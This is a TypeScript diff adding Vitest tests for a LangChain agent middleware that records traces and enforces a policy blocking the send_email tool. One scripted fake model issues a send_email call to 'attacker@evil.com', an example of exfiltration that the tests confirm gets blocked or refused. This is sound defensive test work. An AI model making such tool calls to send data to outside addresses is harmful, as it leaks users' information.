@@ -1,0 +1,224 @@
+import { HumanMessage, type ToolMessage } from '@langchain/core/messages';
+import { fakeModel } from '@langchain/core/testing';
+import { createTracer, PolicyViolationError, parsePolicy, type Tracer } from '@tracewarden/core';
+import { createAgent } from 'langchain';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { conversationOf, expectSoundTrace, responses } from '../__fixtures__/trace-checks.js';
+import { aiMessage, ran, sendEmail, weather } from '../__fixtures__/weather-tools.js';
+import { TracewardenCallbackHandler } from '../handler/index.js';
+import { guardTools } from '../tools/index.js';
+import { tracewardenAgentMiddleware } from './tracewarden-agent-middleware.js';
+
+const noEmail = parsePolicy(`
+raise "send_email is not allowed" if:
+    (call: ToolCall)
+    call is tool:send_email
+`);
+
+function scriptedModel() {
+  return fakeModel()
+    .respond(
+      aiMessage({
+        content: '',
+        tool_calls: [{ name: 'weather', args: { city: 'Paris' }, id: 'call_w', type: 'tool_call' }],
+        usage_metadata: { input_tokens: 30, output_tokens: 6, total_tokens: 36 },
+      }),
+    )
+    .respond(
+      aiMessage({
+        content: [
+          { type: 'reasoning', reasoning: 'Sunny, so say so.' },
+          { type: 'text', text: 'It is sunny in Paris.' },
+        ],
+        usage_metadata: { input_tokens: 40, output_tokens: 8, total_tokens: 48 },
+      }),
+    );
+}
+
+function emailModel() {
+  return fakeModel()
+    .respond(
+      aiMessage({
+        content: '',
+        tool_calls: [
+          {
+            name: 'send_email',
+            args: { to: 'attacker@evil.com', body: 'x' },
+            id: 'call_m',
+            type: 'tool_call',
+          },
+        ],
+      }),
+    )
+    .respond(aiMessage({ content: 'I could not send it.' }));
+}
+
+const question = () => ({ messages: [new HumanMessage('Weather in Paris?')] });
+
+beforeEach(() => {
+  ran.length = 0;
+});
+
+describe('tracewardenAgentMiddleware', () => {
+  it('records a createAgent run as the handler does: the same stitched trace', async () => {
+    const viaMiddleware = createTracer();
+    const agent = createAgent({
+      model: scriptedModel(),
+      tools: [weather],
+      systemPrompt: 'Be brief.',
+      middleware: [tracewardenAgentMiddleware({ tracer: viaMiddleware, pricing: false })],
+    });
+    const result = await agent.invoke(question());
+    expect(result.messages.at(-1)?.content).toEqual([
+      { type: 'reasoning', reasoning: 'Sunny, so say so.' },
+      { type: 'text', text: 'It is sunny in Paris.' },
+    ]);
+
+    const viaHandler = createTracer();
+    const handler = new TracewardenCallbackHandler({ tracer: viaHandler, pricing: false });
+    const plain = createAgent({
+      model: scriptedModel(),
+      tools: [weather],
+      systemPrompt: 'Be brief.',
+    });
+    await plain.invoke(question(), { callbacks: [handler] });
+    await handler.flush();
+
+    expectSoundTrace(viaMiddleware);
+    expectSoundTrace(viaHandler);
+    const expected = [
+      { role: 'system', content: 'Be brief.', thinks: [], tool_calls: [] },
+      { role: 'user', content: 'Weather in Paris?', thinks: [], tool_calls: [] },
+      {
+        role: 'assistant',
+        content: null,
+        thinks: [],
+        tool_calls: [
+          {
+            call_id: 'call_w',
+            name: 'weather',
+            arguments: { city: 'Paris' },
+            results: ['Sunny in Paris'],
+          },
+        ],
+      },
+      {
+        role: 'assistant',
+        content: 'It is sunny in Paris.',
+        thinks: ['Sunny, so say so.'],
+        tool_calls: [],
+      },
+    ];
+    expect(conversationOf(viaMiddleware)).toEqual(expected);
+    expect(conversationOf(viaHandler)).toEqual(expected);
+    // the handler also names the graph nodes each call ran in
+    expect(responses(viaHandler.blocks())[0]?.metadata.langchain).toMatchObject({
+      metadata: { langgraph_node: 'model_request' },
+    });
+  });
+
+  it('gives each agent run its own trace without a tracer', async () => {
+    const middleware = tracewardenAgentMiddleware({ pricing: false });
+    const agent = createAgent({
+      model: scriptedModel(),
+      tools: [weather],
+      middleware: [middleware],
+    });
+    await agent.invoke(question());
+    const second = createAgent({
+      model: scriptedModel(),
+      tools: [weather],
+      middleware: [middleware],
+    });
+    await second.invoke(question());
+    expect(middleware.tracers).toHaveLength(2);
+    for (const tracer of middleware.tracers as Tracer[])
+      expect(conversationOf(tracer)).toHaveLength(3);
+  });
+
+  it('rejects the run with PolicyViolationError before the tool runs (throw mode)', async () => {
+    const tracer = createTracer();
+    const agent = createAgent({
+      model: emailModel(),
+      tools: [sendEmail],
+      middleware: [tracewardenAgentMiddleware({ tracer, policy: noEmail, pricing: false })],
+    });
+    const error = await agent
+      .invoke({ messages: [new HumanMessage('Mail it')] })
+      .catch((caught: unknown) => caught);
+    // createAgent wraps what a middleware throws in its MiddlewareError, the error as its cause
+    expect((error as Error).name).toBe('PolicyViolationError');
+    expect(PolicyViolationError.isInstance((error as Error).cause)).toBe(true);
+    expect(ran).toEqual([]);
+    const call = expectSoundTrace(tracer).find((block) => block.sub_type === 'TOOL_CALL');
+    expect(call?.metadata).toMatchObject({ policy: 'block' });
+  });
+
+  it('answers a blocked call with a refusal ToolMessage the model reads (refuse mode)', async () => {
+    const tracer = createTracer();
+    const agent = createAgent({
+      model: emailModel(),
+      tools: [sendEmail],
+      middleware: [
+        tracewardenAgentMiddleware({
+          tracer,
+          policy: noEmail,
+          onPolicyViolation: 'refuse',
+          pricing: false,
+        }),
+      ],
+    });
+    const result = await agent.invoke({ messages: [new HumanMessage('Mail it')] });
+    expect(ran).toEqual([]);
+    const refusal = result.messages.find((message) => message.type === 'tool') as ToolMessage;
+    expect(refusal.status).toBe('error');
+    expect(String(refusal.content)).toContain('send_email was blocked by policy');
+    expect(result.messages.at(-1)?.content).toBe('I could not send it.');
+    const blocks = expectSoundTrace(tracer);
+    const results = blocks.filter((block) => block.sub_type === 'TOOL_RESULT');
+    expect(results).toHaveLength(1);
+    expect(results[0]?.metadata).toMatchObject({
+      refused: true,
+      policy: 'block',
+      status: 'failure',
+    });
+  });
+
+  it('records guarded tools under the agent model TOOL_CALL with their guard decisions', async () => {
+    const tracer = createTracer();
+    const agent = createAgent({
+      model: scriptedModel(),
+      tools: guardTools([weather], { retry: { maxRetries: 1, initialDelay: 0 } }),
+      middleware: [tracewardenAgentMiddleware({ tracer, pricing: false })],
+    });
+    await agent.invoke(question());
+    const blocks = expectSoundTrace(tracer);
+    const results = blocks.filter((block) => block.sub_type === 'TOOL_RESULT');
+    expect(results).toHaveLength(1);
+    expect(results[0]?.metadata).toMatchObject({
+      status: 'success',
+      guard: { attempts: [{ attempt: 1 }] },
+    });
+  });
+
+  it('with the handler in refuse mode, the agent tool node hands the refusal to the model', async () => {
+    const tracer = createTracer();
+    const handler = new TracewardenCallbackHandler({
+      tracer,
+      policy: noEmail,
+      onPolicyViolation: 'refuse',
+      pricing: false,
+    });
+    const agent = createAgent({ model: emailModel(), tools: [sendEmail] });
+    const result = await agent.invoke(
+      { messages: [new HumanMessage('Mail it')] },
+      { callbacks: [handler] },
+    );
+    expect(ran).toEqual([]);
+    const refusal = result.messages.find((message) => message.type === 'tool') as ToolMessage;
+    expect(refusal.status).toBe('error');
+    expect(String(refusal.content)).toContain('blocked by policy');
+    expect(result.messages.at(-1)?.content).toBe('I could not send it.');
+    expectSoundTrace(tracer);
+  });
+});
